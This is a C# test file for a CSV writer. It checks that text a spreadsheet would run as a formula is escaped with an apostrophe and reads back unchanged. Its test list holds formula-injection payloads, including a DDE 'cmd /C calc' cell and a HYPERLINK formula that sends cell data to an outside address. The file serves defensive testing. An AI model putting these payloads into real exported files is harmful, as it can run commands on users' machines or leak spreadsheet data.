using System.Globalization;
using FsCheck;
using FsCheck.Fluent;
using Huimin.Platform.Files;

namespace Huimin.Tests.Platform.Files;

/// <summary>What leaves the program runs in no spreadsheet and comes back the same.</summary>
public sealed class CsvWriterTests
{
    private static readonly string[] Attacks =
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x?\"&A1,\"y\")", "'=1", "''", "'", "-", "+86 139",
    ];

    [Fact]
    public void Text_ThatASpreadsheetWouldRun_BeginsWithAnApostropheAndComesBack()
    {
        foreach (var attack in Attacks)
        {
            var cell = Written(attack).TrimEnd('\n');
            cell.TrimStart('"')[0].ShouldBe('\'', attack);
            Back(attack).ShouldBe(attack);
        }
    }

    [Fact]
    public void Text_Ordinary_IsWrittenAsItIs()
    {
        foreach (var text in (string[])["赵德福", "a-b", "1=1", "x@y", "371323195203111817", " 南里庄村18号"])
            Written(text).ShouldBe(text + "\n");
        Written("a,b\"c").ShouldBe("\"a,b\"\"c\"\n");
    }

    [Fact]
    public void Plain_NegativeNumber_StaysANumber()
    {
        var text = new StringWriter();
        var csv = new CsvWriter(text);
        csv.Plain(-12.5m, "0.00");
        csv.Plain(-3);
        csv.EndRow();
        text.ToString().ShouldBe("-12.50,-3\n");
        decimal.Parse("-12.50", CultureInfo.InvariantCulture).ShouldBe(-12.5m);
    }

    [Fact]
    public void Text_Any_ComesBackAndNeverBeginsAFormula() =>
        Prop.ForAll(ArbMap.Default.ArbFor<string?>(), ArbMap.Default.ArbFor<string?>(), (one, other) =>
        {
            string[] cells = [Possible(one), Possible(other), .. Attacks.Select(a => a + Possible(one))];
            var text = new StringWriter();
            var csv = new CsvWriter(text);
            foreach (var cell in cells)
                csv.Text(cell);
            csv.EndRow();
            var reader = new CsvReader(new StringReader(text.ToString()));
            if (!reader.Read())
                return cells.All(c => c.Length == 0);
            for (var i = 0; i < cells.Length; i++)
            {
                if (Cells.LooksLikeFormula(reader[i]) || Cells.Unprotected(reader[i], out _).ToString() != cells[i])
                    return false;
            }

            return reader.Count == cells.Length && reader.Problem == CsvProblem.None;
        }).QuickCheckThrowOnFailure();

    /// <summary>Every table of the program is written by the one writer: nothing else names a file .csv in an answer.</summary>
    [Fact]
    public void Sources_SendTablesOnlyThroughTheOneWriter()
    {
        foreach (var file in SourceTexts.Files("*.cs").Concat(SourceTexts.Files("*.razor")).Where(f => !f.EndsWith("Downloads.cs", StringComparison.Ordinal)))
        {
            var text = File.ReadAllText(file);
            text.ShouldNotContain("\"text/csv", customMessage: file);
            text.ShouldNotContain("ContentDisposition", customMessage: file);
            text.ShouldNotContain("Content-Disposition", customMessage: file);
        }
    }

    /// <summary>NUL and the mark of undecodable bytes stand in no text that the program keeps.</summary>
    private static string Possible(string? text) => (text ?? "").Replace("\0", "", StringComparison.Ordinal).Replace("\uFFFD", "", StringComparison.Ordinal);

    private static string Written(string text)
    {
        var writer = new StringWriter();
        var csv = new CsvWriter(writer);
        csv.Text(text);
        csv.EndRow();
        return writer.ToString();
    }

    private static string Back(string text)
    {
        var reader = new CsvReader(new StringReader("a,b\n1," + Written(text)));
        reader.Read().ShouldBeTrue();
        reader.Read().ShouldBeTrue();
        return Cells.Unprotected(reader[1], out _).ToString();
    }
}
